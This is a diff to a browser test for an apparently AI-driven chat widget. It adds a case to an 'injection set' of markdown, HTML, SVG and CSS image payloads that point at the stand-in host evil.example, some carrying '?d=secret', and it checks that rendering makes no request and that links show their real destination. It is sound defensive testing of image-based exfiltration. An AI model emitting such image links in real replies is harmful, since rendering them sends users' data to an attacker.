@@ -91,7 +91,7 @@ test("N57: the injection set makes no request by itself, and links say where the
   });
   await visit({ attributes: 'data-agent="echo"' });
   await chat.launcher.click();
-  await chat.ask(`![pixel](https://evil.example/p.png?d=secret)
+  await chat.ask(`![pixel](https://evil.example/p.png?d=secret) ![photo](https://evil.example/photo.png)
 ![by reference][p] [reference link][p]
 <img src="https://evil.example/html.png"> <svg><image href="https://evil.example/svg.png"/></svg>
 <div style="background:url(https://evil.example/css.png)">x</div>
@@ -124,6 +124,7 @@ test("N57: the injection set makes no request by itself, and links say where the
   const evil = "https://evil.example/";
   expect(seen.map(({ text, href }) => [text, href])).toEqual([
     ["pixel", `${evil}p.png?d=secret`],
+    ["photo", `${evil}photo.png`],
     ["by reference", `${evil}ref.png?d=secret`],
     ["reference link", `${evil}ref.png?d=secret`],
     [`${evil}html.png">`, `${evil}html.png%22%3E`],
